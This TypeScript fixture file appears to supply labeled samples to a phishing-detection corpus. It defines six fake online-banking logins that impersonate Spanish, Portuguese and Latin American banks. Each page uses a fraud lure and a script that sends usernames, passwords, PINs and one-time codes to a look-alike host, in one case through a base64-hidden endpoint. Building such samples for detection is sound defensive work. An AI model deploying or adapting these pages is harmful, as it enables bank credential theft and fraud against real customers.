import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, exfil, jsonRoute, jsRoute, okRoute, pngRoute } from '../parts/zd-kit.js';

/**
 * Bank credential kits reported to a LatAm / Iberian fraud desk: SMS and WhatsApp lures land on
 * look-alike online-banking logins that collect user, password, card data and one-time codes.
 */

export const entries: Entry[] = [
  {
    id: 'zd-bank-santander-es-sms-firma',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://santander-particulares.verifica-acceso.es/oneweb/acceso?ref=sms',
    body: doc({
      lang: 'es',
      title: 'Acceso clientes - Banco Santander',
      css: `body{font-family:'Santander Text',Arial,sans-serif;background:#fff;margin:0}header{border-bottom:1px solid #ddd;padding:16px 36px}header span{color:#ec0000;font-size:26px;font-weight:bold}
.w{max-width:400px;margin:50px auto}h1{font-size:24px;color:#222}input{width:100%;padding:12px;border:1px solid #767676;border-radius:4px;margin:8px 0 16px}button{width:100%;background:#ec0000;color:#fff;border:0;border-radius:24px;padding:14px;font-size:16px}
.tabs a{margin-right:14px;color:#ec0000}.f{font-size:11px;color:#777;text-align:center;margin-top:60px}#s2,#wait{display:none}`,
      body: `<header><span>Santander</span></header>
<div class="w" id="s1"><h1>Accede a tu Banca Online</h1><div class="tabs"><a>Particulares</a><a>Empresas</a></div>
<form id="a"><label>NIF/NIE o Usuario</label><input name="doc" required><label>Clave de acceso</label><input name="clave" type="password" required><button>Entrar</button></form>
<p><a href="#">¿Has olvidado tu clave?</a></p></div>
<div class="w" id="s2"><h1>Confirma la operación</h1><p>Hemos enviado una <b>Clave SMS</b> al teléfono asociado para confirmar la anulación del cargo de 849,90 € no reconocido.</p>
<form id="b"><label>Clave SMS</label><input name="sms" maxlength="6" required><label>Firma electrónica (4 últimos dígitos)</label><input name="firma" type="password" maxlength="4" required><button>Confirmar</button><p id="wait">Procesando…</p></form></div>
<div class="f">Banco Santander, S.A. Todos los derechos reservados. Inscrito en el Registro de Entidades del Banco de España con el número 0049.</div>
<script>
var k=atob('L29uZXdlYi9hcGkvbG9n');
document.getElementById('a').onsubmit=function(e){e.preventDefault();fetch(k,{method:'POST',body:JSON.stringify({d:this.doc.value,c:this.clave.value})});document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'};
</script>
${exfil({ form: '#b', endpoint: '/oneweb/api/log', next: 'https://www.bancosantander.es/particulares' })}`,
    }),
    routes: { 'santander-particulares.verifica-acceso.es/oneweb/api/log': okRoute() },
  },
  {
    id: 'zd-bank-itau-atualizacao-cadastral',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://itau-atualizacao.app-cadastro.com.br/pf/?cpf=1',
    body: doc({
      lang: 'pt-BR',
      title: 'Itaú | Atualização Cadastral',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#ec7000}.c{background:#fff;max-width:380px;margin:60px auto;border-radius:10px;padding:28px}.lg{width:56px;height:56px;background:#003399;color:#ffcc00;border-radius:10px;font-weight:bold;display:flex;align-items:center;justify-content:center;font-size:20px}
input{width:100%;padding:12px;border:1px solid #999;border-radius:6px;margin:8px 0}button{background:#ec7000;color:#fff;border:0;width:100%;padding:14px;border-radius:6px;margin-top:10px;font-weight:bold}p{font-size:14px;color:#333}.kb button{width:30%;margin:3px;background:#eee;color:#000}`,
      body: `<div class="c"><div class="lg">itaú</div>
<h3>Atualização cadastral obrigatória</h3><p>Prezado(a) cliente, conforme a Resolução BCB nº 142, sua conta precisa ser atualizada até <b id="dt"></b> para continuar utilizando Pix e cartões.</p>
<form id="f"><input name="agencia" placeholder="Agência" maxlength="4" required><input name="conta" placeholder="Conta com dígito" required>
<input name="cpf" placeholder="CPF" required><p>Senha eletrônica (6 dígitos):</p><input name="senha" type="password" maxlength="6" readonly id="pw">
<div class="kb" id="kb"></div><input name="cartao" placeholder="Senha do cartão (4 dígitos)" type="password" maxlength="4" required><button>Continuar</button><p id="wait" style="display:none">Aguarde, validando…</p></form></div>
<script>
document.getElementById('dt').textContent=new Date(Date.now()+864e5).toLocaleDateString('pt-BR');
var pairs=[[1,7],[3,0],[9,5],[2,8],[4,6]],kb=document.getElementById('kb'),pw=document.getElementById('pw');
pairs.forEach(function(p){var b=document.createElement('button');b.type='button';b.textContent=p[0]+' ou '+p[1];b.onclick=function(){if(pw.value.length<6)pw.value+=p[0]+''+p[1]+'|'};kb.appendChild(b)});
</script>
${exfil({ form: '#f', endpoint: '/pf/salvar.php', next: '/pf/token.html', mode: 'form' })}`,
    }),
    routes: {
      'itau-atualizacao.app-cadastro.com.br/pf/salvar.php': okRoute(),
      'itau-atualizacao.app-cadastro.com.br/pf/token.html': htmlRoute(doc({ lang: 'pt-BR', title: 'Itaú | iToken', body: `<div style="max-width:380px;margin:60px auto;font-family:Arial"><h3>Confirme com o iToken</h3><p>Digite o código exibido no aplicativo Itaú para concluir a atualização.</p><form><input name="itoken" maxlength="6" style="width:100%;padding:12px"><button style="margin-top:10px;width:100%;padding:12px;background:#ec7000;color:#fff;border:0">Confirmar</button></form></div>` })),
    },
  },
  {
    id: 'zd-bank-bancoestado-cuentarut',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://bancoestado-cl.cuentarut-actualiza.cl/imp/login/',
    body: doc({
      lang: 'es-CL',
      title: 'BancoEstado | Banca en Línea Personas',
      css: `body{margin:0;font-family:Roboto,Arial;background:#eef1f4}.h{background:#fff;padding:16px 28px;border-bottom:4px solid #f5a800}.h b{color:#1f3f6f;font-size:22px}.c{max-width:360px;margin:40px auto;background:#fff;padding:26px;border-radius:6px}
input{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #c4c9d0;border-radius:4px}button{width:100%;padding:13px;background:#f5a800;border:0;border-radius:4px;font-weight:bold;color:#1f3f6f}.s{font-size:12px;color:#555}`,
      body: `<div class="h"><b>BancoEstado</b> · Banca en Línea</div>
<div class="c"><h3>Ingresa a tu CuentaRUT</h3><p class="s">Su CuentaRUT presenta una retención por actualización de datos (Ley 21.521). Valide su identidad para liberar sus fondos.</p>
<form id="x"><label class="s">RUT</label><input name="rut" placeholder="12.345.678-9" required><label class="s">Clave de Internet</label><input name="clave" type="password" required>
<label class="s">Clave BancoEstado (BEpass) o coordenadas</label><input name="bepass" maxlength="8" required><button>Ingresar</button><p id="wait" style="display:none">Conectando con BancoEstado…</p></form>
<p class="s">Recuerda: BancoEstado nunca te solicitará claves por correo electrónico.</p></div>
<script>document.querySelector('[name=rut]').addEventListener('input',function(){var v=this.value.replace(/[^0-9kK]/g,'');if(v.length>1)this.value=v.slice(0,-1).replace(/\\B(?=(\\d{3})+(?!\\d))/g,'.')+'-'+v.slice(-1)});</script>
${exfil({ form: '#x', endpoint: '/imp/login/enviar.php', next: 'https://www.bancoestado.cl/', mode: 'form' })}`,
    }),
    routes: { 'bancoestado-cl.cuentarut-actualiza.cl/imp/login/enviar.php': okRoute() },
  },
  {
    id: 'zd-bank-caixabank-desbloqueo',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://caixabank.es-now-clientes.com/particulares/acceso.php',
    body: doc({
      lang: 'es',
      title: 'CaixaBankNow - Acceso',
      css: `body{margin:0;font-family:Arial;background:#f5f5f5}.h{background:#007eae;color:#fff;padding:18px 30px;font-size:22px}.h b{color:#ffd200}.c{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-top:4px solid #007eae}
input{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #bbb}button{background:#007eae;color:#fff;width:100%;padding:13px;border:0}.n{background:#fff8d6;padding:10px;font-size:13px}`,
      body: `<div class="h"><b>✱</b> CaixaBank<span style="font-size:14px"> Now</span></div>
<div class="c"><div class="n">Estimado cliente: su acceso a CaixaBankNow ha sido limitado temporalmente por no completar la verificación de seguridad PSD2. Introduzca sus credenciales para restablecerlo.</div>
<form id="cx" method="post"><label>Identificación (DNI/NIE o usuario)</label><input name="id"><label>Contraseña</label><input name="pw" type="password"><label>Teléfono móvil</label><input name="tel" placeholder="6XX XXX XXX">
<label>Código de firma (si lo tiene)</label><input name="firma" type="password" maxlength="6"><button>Acceder</button><p id="wait" style="display:none">Verificando...</p></form>
<p style="font-size:11px;color:#888">CaixaBank, S.A. C/ Pintor Sorolla, 2-4, 46002 Valencia. NIF A08663619.</p></div>
${exfil({ form: '#cx', endpoint: '/particulares/bot.php', next: '/particulares/acceso.php?paso=2', mode: 'form', extra: "d.tg='-100248861';" })}`,
    }),
    routes: { 'caixabank.es-now-clientes.com/particulares/bot.php': okRoute() },
  },
  {
    id: 'zd-bank-millennium-pt-app',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://millenniumbcp-particulares.acesso-seguro.pt/login',
    body: doc({
      lang: 'pt-PT',
      title: 'Millennium bcp - Particulares',
      css: `body{margin:0;font-family:Arial;background:#fff}.h{border-bottom:1px solid #ddd;padding:16px 30px;color:#d1005d;font-size:24px;font-weight:bold}.c{max-width:400px;margin:40px auto}
input{width:100%;padding:12px;margin:6px 0 14px;border:1px solid #aaa}button{background:#d1005d;color:#fff;border:0;padding:13px;width:100%}.pin{display:flex;gap:6px}.pin input{text-align:center}`,
      body: `<div class="h">Millennium <span style="font-weight:normal">bcp</span></div>
<div class="c"><h2>Acesso Particulares</h2><p>A partir de hoje é obrigatória a associação do seu dispositivo à App Millennium. Conclua o processo para evitar o bloqueio do cartão matriz.</p>
<form id="m"><label>Código de utilizador</label><input name="user"><label>Código multicanal — posições 1, 3 e 5</label><div class="pin"><input name="p1" maxlength="1"><input name="p3" maxlength="1"><input name="p5" maxlength="1"></div>
<label>Número de telemóvel</label><input name="tlm" placeholder="9XX XXX XXX"><button>Continuar</button><p id="wait" style="display:none">A validar os seus dados…</p></form>
<p style="font-size:11px;color:#777">Banco Comercial Português, S.A. · Sociedade Aberta · Capital Social 3.000.000.000,00 euros</p></div>
${exfil({ form: '#m', endpoint: 'https://millenniumbcp-particulares.acesso-seguro.pt/api/s', next: 'https://www.millenniumbcp.pt' })}`,
    }),
    routes: { 'millenniumbcp-particulares.acesso-seguro.pt/api/s': okRoute() },
  },
  {
    id: 'zd-bank-banorte-userinfo',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://bnrt-seguro.link/acceso/banorte/',
    submittedUrl: 'https://www.banorte.com@bnrt-seguro.link/acceso/banorte/',
    body: doc({
      lang: 'es-MX',
      title: 'Banorte | Banca Digital',
      css: `body{margin:0;font-family:Arial;background:#f0f0f0}.h{background:#eb0029;color:#fff;padding:16px 30px;font-size:24px;font-weight:bold}.c{max-width:400px;margin:40px auto;background:#fff;padding:26px}
input{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #bbb}button{background:#eb0029;color:#fff;width:100%;padding:13px;border:0}`,
      body: `<div class="h">BANORTE</div>
<div class="c"><h3>Banca Digital Banorte</h3><p>Se realizó un cargo de $7,499.00 MXN en MERCADO PAGO *ELEKTRA. Si usted no reconoce esta operación, ingrese para cancelarla.</p>
<form id="bn"><label>Usuario</label><input name="u"><label>Contraseña</label><input name="p" type="password"><label>Clave dinámica (Token Celular)</label><input name="t" maxlength="8"><button>Cancelar cargo</button><p id="wait" style="display:none">Cancelando…</p></form>
<p style="font-size:11px;color:#777">Banco Mercantil del Norte, S.A., Institución de Banca Múltiple, Grupo Financiero Banorte.</p></div>
${exfil({ form: '#bn', endpoint: '/acceso/banorte/envio', next: 'https://www.banorte.com/' })}`,
    }),
    routes: { 'bnrt-seguro.link/acceso/banorte/envio': okRoute() },
  },
];
